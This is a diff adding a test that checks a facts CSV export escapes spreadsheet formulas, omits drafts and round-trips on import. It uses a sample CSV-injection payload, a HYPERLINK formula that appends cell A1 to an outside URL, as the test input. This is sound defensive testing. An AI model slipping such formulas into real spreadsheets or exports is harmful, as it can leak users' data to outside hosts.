@@ -169,6 +169,23 @@ it.each([
   });
 });
 
+it('of facts as CSV no cell is a formula, and drafts are left out', async () => {
+  const value = '=HYPERLINK("https://example.com/?"&A1)';
+  const stored = [
+    await add('facts', { key: 'formula', value }),
+    await add('facts', { key: 'cold', value: '-40', is_number: true }),
+    await own.editor.request('POST', '/api/facts', { key: 'not_public', value: '=1+1' }),
+  ];
+  expect(stored.map(({ status }) => status)).toEqual([201, 201, 201]);
+  const csv: string = (await own.publisher.request('GET', '/api/facts/csv')).json;
+  expect(csv).toContain(`formula,"'=HYPERLINK(""https:`);
+  expect(csv).toContain('cold,-40,true');
+  expect(csv).not.toContain('not_public');
+  const { json } = await own.publisher.request('POST', '/api/facts/csv', csv);
+  expect(json).toMatchObject({ added: 0, changed: 0, faults: [] });
+  expect(await fact('formula')).toMatchObject({ value });
+});
+
 it('facts from CSV are on the site, with semicolons too', async () => {
   const csv = 'key;value;is_number\r\nvat_number;IT00000000177;\r\nnew_fact;12;true\r\n';
   expect((await own.publisher.request('POST', '/api/facts/csv', csv)).json).toEqual({
